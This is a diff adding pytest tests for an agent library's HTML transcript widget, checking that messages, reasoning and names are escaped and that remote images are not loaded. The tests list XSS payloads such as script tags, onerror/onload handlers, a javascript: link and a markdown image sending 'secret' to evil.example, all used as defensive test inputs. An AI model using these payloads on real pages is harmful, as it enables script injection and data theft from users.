@@ -1,0 +1,114 @@
+"""The static transcript: readable anywhere, harmless everywhere, the same in every run."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+
+from nbagent import Agent, Session
+from nbagent.errors import RateLimited
+from nbagent.messages import ImagePart, TextPart
+from nbagent.models.scripted import ScriptedModel, Step
+from nbagent.widget.transcript import transcript_html
+
+EVIL = [
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "</code></pre><iframe src=https://evil.example></iframe>",
+    "</style><script>alert(1)</script>",
+    "```\n</code></pre><script>alert(1)</script>\n```",
+    "~~~\n<svg onload=alert(1)>",
+    "[x](javascript:alert(1)) ![y](https://evil.example/?q=secret)",
+    "&lt;script&gt;",
+]
+ALLOWED = {"div", "style", "section", "p", "strong", "em", "br", "pre", "code", "details", "summary", "img"}
+
+
+class Reader(HTMLParser):
+    """What a browser makes of it: the tags, the attributes, and the text outside styles."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.attributes: list[tuple[str, str | None]] = []
+        self.text = ""
+        self.feed(html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes += attrs
+
+    def handle_data(self, data: str) -> None:
+        if self.tags[-1:] != ["style"]:
+            self.text += data
+
+
+def html_of(*steps: Step, question: str = "Hi", agent_name: str | None = None) -> str:
+    session = Session(Agent(ScriptedModel(steps), name=agent_name), store=None)
+    for _ in steps:
+        session.send(question).result(10)
+    return transcript_html(session.state)
+
+
+def test_a_conversation_reads_in_order() -> None:
+    """Who said what, one after the other."""
+    text = Reader(html_of("Hello.", "Hello again.", agent_name="Ada")).text
+    assert re.sub(r"\s+", " ", text).strip() == "You Hi Ada Hello. You Hi Ada Hello again."
+
+
+@pytest.mark.parametrize("evil", EVIL)
+def test_nothing_that_was_said_becomes_html(evil: str) -> None:
+    """Whoever wrote it, text is text: questions, answers, reasoning, names."""
+    page = Reader(html_of([{"reasoning": evil}, evil], question=evil, agent_name=evil))
+    assert set(page.tags) <= ALLOWED
+    assert {name for name, _ in page.attributes} <= {"class"}
+    said = [line for line in evil.splitlines() if line.strip("`~")]
+    assert [line for line in said if page.text.count(line) < 4] == []
+
+
+def test_paragraphs_and_code_blocks_keep_their_lines() -> None:
+    """Line breaks survive where styles are stripped."""
+    html = html_of("One\ntwo\n\nThree\n```python\nx = 1\n\ny = 2\n```\nFour")
+    assert "<p>One<br>two</p>\n<p>Three</p>\n<pre><code>x = 1\n\ny = 2</code></pre>\n<p>Four</p>" in html
+
+
+def test_reasoning_is_folded() -> None:
+    """It is there for who wants it."""
+    html = html_of([{"reasoning": "Let me see."}, "Yes."])
+    assert "<details><summary>Reasoning</summary>\n<p>Let me see.</p>\n</details>\n<p>Yes.</p>" in html
+
+
+def test_a_failure_says_why() -> None:
+    """An answer that failed does not look like one that is complete."""
+    session = Session(Agent(ScriptedModel([RateLimited("Slow <down>.")])), store=None)
+    with pytest.raises(RateLimited):
+        session.send("Hi").result(10)
+    assert "<p><em>Failed. Slow &lt;down&gt;.</em></p>" in transcript_html(session.state)
+
+
+def test_images_in_the_log_are_shown_and_addresses_are_not_loaded() -> None:
+    """A data URL loads nothing; an address is text, and so is a type that is no picture."""
+    session = Session(Agent(ScriptedModel(["Nice.", "Nice.", "Nice."])), store=None)
+    images = [
+        ImagePart(media_type="image/png", data=b"png"),
+        ImagePart(media_type="image/png", url="https://evil.example/x.png"),
+        ImagePart(media_type="image/svg+xml", data=b"<svg onload=alert(1)>"),
+    ]
+    for image in images:
+        session.send([TextPart(text="Look"), image]).result(10)
+    page = Reader(transcript_html(session.state))
+    assert [value for name, value in page.attributes if name == "src"] == ["data:image/png;base64,cG5n"]
+    assert "image: https://evil.example/x.png" in page.text
+
+
+def test_it_is_the_same_in_every_run() -> None:
+    """Stored outputs are compared, so nothing volatile is in it."""
+    assert html_of("Hello.") == html_of("Hello.")
+
+
+def test_before_anything_was_said_there_is_nothing_to_read() -> None:
+    """An unused chat adds an empty element."""
+    assert Reader(html_of()).text.strip() == ""
